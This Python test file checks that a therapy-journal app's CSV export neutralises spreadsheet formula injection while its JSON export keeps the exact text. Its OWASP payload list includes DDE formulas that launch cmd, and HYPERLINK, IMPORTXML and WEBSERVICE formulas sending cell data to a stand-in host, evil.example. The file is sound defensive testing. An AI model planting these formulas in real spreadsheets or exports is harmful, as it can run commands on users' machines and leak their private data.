"""Every CSV the app writes goes through one writer (`core.csv_safe`) that a
spreadsheet cannot run: OWASP's CSV-injection payloads, round-tripped through
Python's csv reader, come back as text with a leading quote when they start with
`=`, `+`, `-`, `@`, tab or carriage return, and exactly as written otherwise. The
patient's export writes its CSV copy through it, while its JSON copy keeps the
exact text. (The therapist's session summary: tests/views/test_reports_csv_safe.py.)
"""

from __future__ import annotations

import csv
import io
import json
import uuid
import zipfile
from decimal import Decimal

from sqlmodel import select

from skills_app.core import db, journal, personal_data
from skills_app.core.csv_safe import FORMULA_START, safe_cell, write_csv
from skills_app.core.models import User
from tests.conftest import Account

# OWASP's CSV injection page and its usual test list, written out.
OWASP_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for details")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '@HYPERLINK("http://evil.example","click")',
    "+1+1",
    "-1+1",
    "\t=1+2",
    "\r=1+2",
    "\t@SUM(1+1)",
)
# Text that only looks near a formula stays exactly as typed.
HARMLESS = ("DDE (\"cmd\";\"/C calc\";\"!A0\")A0", "a=1+2", " =1+2", "'=1+2",
            "I felt 7/10, then better", "", "Comma, \"quote\", and\nnew line")


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_owasp_payloads_come_back_as_quoted_text() -> None:
    rows = read_back(write_csv([[payload] for payload in OWASP_PAYLOADS]))
    assert [row[0] for row in rows] == ["'" + payload for payload in OWASP_PAYLOADS]
    for [cell] in rows:
        assert not cell.startswith(FORMULA_START)


def test_harmless_text_and_the_apps_own_numbers_stay_as_written() -> None:
    rows = read_back(write_csv([[text] for text in HARMLESS]))
    assert [row[0] if row else "" for row in rows] == list(HARMLESS)
    assert read_back(write_csv([[-3, 4.5, Decimal("-1.25"), None, True, False]])) == [
        ["-3", "4.5", "-1.25", "", "true", "false"]]
    assert safe_cell("-3") == "'-3"  # typed text is text, even when it looks like a number


def unzip(data: bytes | None) -> dict[str, str]:
    assert data is not None
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()}


def test_the_export_csv_is_safe_to_open_and_its_json_keeps_the_exact_text(
        alice: Account) -> None:
    # Notes may hold tabs but not carriage returns (refused as control characters).
    typed = [p for p in OWASP_PAYLOADS if "\r" not in p]
    for payload in typed:
        saved = journal.save_entry(alice.identity.user_id, "America/Chicago", {
            "idempotency_key": str(uuid.uuid4()), "kind": "diary", "mood": 3,
            "note": "x " + payload})  # a leading tab would be trimmed; the name tests one
        assert saved.ok, saved.errors
        saved = journal.save_entry(alice.identity.user_id, "America/Chicago", {
            "idempotency_key": str(uuid.uuid4()), "kind": "diary", "mood": 3,
            "note": payload})
        assert saved.ok, saved.errors
    name = '=HYPERLINK("http://evil.example","Alice")'
    with db.transaction() as session:
        user = session.exec(select(User).where(User.id == alice.identity.user_id)).one()
        user.display_name = name
    files = unzip(personal_data.export_zip(alice.identity.user_id))

    notes = [row["note"] for row in json.loads(files["json/journal_entry.json"])]
    csv_notes = [row["note"] for row in csv.DictReader(
        io.StringIO(files["csv/journal_entry.csv"][1:], newline=""))]
    stored = [payload.strip() for payload in typed]
    assert sorted(n for n in notes if not n.startswith("x ")) == sorted(stored)
    assert sorted(n for n in csv_notes if not n.startswith("x ")) == sorted(
        "'" + note if note.startswith(FORMULA_START) else note for note in stored)
    assert {n for n in csv_notes if n.startswith("x ")} == {"x " + p for p in typed}
    assert all(not note.startswith(FORMULA_START) for note in csv_notes)

    [account] = json.loads(files["json/user_account.json"])
    [account_row] = csv.DictReader(io.StringIO(files["csv/user_account.csv"][1:], newline=""))
    assert account["display_name"] == name
    assert account_row["display_name"] == "'" + name
    assert account_row["id"] == str(alice.identity.user_id)
